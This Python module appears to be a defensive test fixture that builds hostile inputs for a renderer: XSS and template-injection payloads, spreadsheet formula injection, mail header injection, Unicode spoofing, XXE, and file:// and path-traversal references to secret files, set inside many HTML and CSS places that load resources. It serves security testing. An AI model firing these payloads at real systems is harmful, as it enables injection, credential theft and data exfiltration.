"""Hostile texts: each would do something if some page, paper or mail took it for more than text."""

from collections.abc import Iterator
from pathlib import Path

WORD = "planted"
# Seven digits that no figure of the ground has: a template that reckons shows itself.
PRODUCT = str(2791 * 3989)


def texts(address: str, secret: Path) -> list[str]:
    """Return the texts. `address` is where a listener waits, `secret` a file whose words nobody should see."""
    url = f"http://{address}"
    return [
        f"<{WORD}-tag>x</{WORD}-tag>",
        f"<script>{WORD}()</script>",
        f'"><script src={url}/{WORD}.js></script>',
        f"'><img src={url}/{WORD}.png onerror={WORD}()>",
        f"<svg onload={WORD}()><image href='{url}/{WORD}.svg'/></svg>",
        f"</title><style>@import url({url}/{WORD}.css);</style>",
        f"<link rel=stylesheet href={url}/{WORD}.css><link rel=attachment href='file://{secret}'>",
        f"<iframe src='file://{secret}'></iframe><object data='{url}/{WORD}'></object>",
        f"<base href='{url}/'><meta http-equiv=refresh content='0;url={url}/{WORD}'>",
        f'" onmouseover="{WORD}()" style="background:url({url}/{WORD})" x="',
        f"' autofocus onfocus='{WORD}()' x='",
        f"javascript:{WORD}()//",
        f"data:text/html,<script>{WORD}()</script>",
        "{{ 2791|add:3989 }}{% debug %}{{ settings.SECRET_KEY }}{% include '/etc/passwd' %}",
        "${2791*3989}#{2791*3989}<%= 2791*3989 %>{{2791*3989}}",
        f"background:url({url}/{WORD}.gif);}}*{{color:red",
        f'=HYPERLINK("{url}/{WORD}","x")',
        "+cmd|' /C calc'!A0",
        f"-2+3+cmd|'{WORD}'!A1",
        f"@SUM(1+1)*{WORD}",
        f"\t=1+1 {WORD}",
        f"\r=1+1 {WORD}",
        f"x\r\nBcc: {WORD}@example.org\r\n\r\n<b>{WORD}</b>",
        f"x\nSubject: {WORD}\nContent-Type: text/html\n\n<script>{WORD}()</script>",
        "\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200d\ufeff",
        "W" * 5000,
        "\u0301" * 400,
        f"file://{secret}",
        f"{url}/{WORD}",
        f"//{address}/{WORD}",
        f"\\\\{address}\\{WORD}",
    ]


def papers(address: str, secret: Path) -> Iterator[str]:
    """Give HTML in which a text has come alive: even then nothing is to be reached, by any kind of URL in any place."""
    urls = [
        f"http://{address}/a", f"//{address}/b", f"https://{address}/c", f"ftp://{address}/d", f"file://{secret}", str(secret),
        "../../../../../../etc/passwd", f"static:../..{secret}", f"static:/..{secret}", f"HTTP://{address}/e",
        f"jar:http://{address}/f", f"gopher://{address}/g", f"data:text/css,@import url(http://{address}/h)",
        f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://{address}/i'/></svg>",
        f"http://user:pass@{address}/j", "about:blank", "data:text/plain,planted",
    ]  # fmt: skip
    places = [
        "<img src=\"{u}\">", "<img srcset=\"{u} 2x\" src=\"{u}\">", "<picture><source srcset=\"{u}\"><img src=\"{u}\"></picture>",
        "<link rel=stylesheet href=\"{u}\">", "<link rel=attachment href=\"{u}\">", "<link rel=icon href=\"{u}\">",
        "<style>@import url(\"{u}\");</style>", "<style>@import \"{u}\";</style>",
        "<style>@font-face{{font-family:x;src:url(\"{u}\")}} p{{font-family:x}}</style><p>x",
        "<p style='background:url(\"{u}\")'>x", "<style>p::before{{content:url(\"{u}\")}}</style><p>x",
        "<ul style='list-style-image:url(\"{u}\")'><li>x</ul>", "<p style='border-image:url(\"{u}\")'>x",
        "<style>@page{{background:url(\"{u}\");@top-left{{content:url(\"{u}\")}}}}</style>",
        "<style>@color-profile x{{src:url(\"{u}\")}}</style>", "<object data=\"{u}\"></object>", "<embed src=\"{u}\">",
        "<iframe src=\"{u}\"></iframe>", "<video poster=\"{u}\" src=\"{u}\"></video>", "<input type=image src=\"{u}\">",
        "<base href=\"{u}/\"><img src=x.png><link rel=stylesheet href=x.css>", "<a rel=attachment href=\"{u}\">x</a>",
        "<svg xmlns='http://www.w3.org/2000/svg'><image href=\"{u}\" width='9' height='9'/></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><use xlink:href=\"{u}#a\"/></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><style>@import url(\"{u}\");</style></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><rect fill=\"url('{u}#g')\" width='9' height='9'/></svg>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"{u}\">]><p>&e;", "<?xml-stylesheet href=\"{u}\"?><p>x",
        "<meta http-equiv=refresh content=\"0;url={u}\">",
    ]  # fmt: skip
    for place in places:
        yield "".join(place.format(u=url.replace('"', "&quot;")) for url in urls)
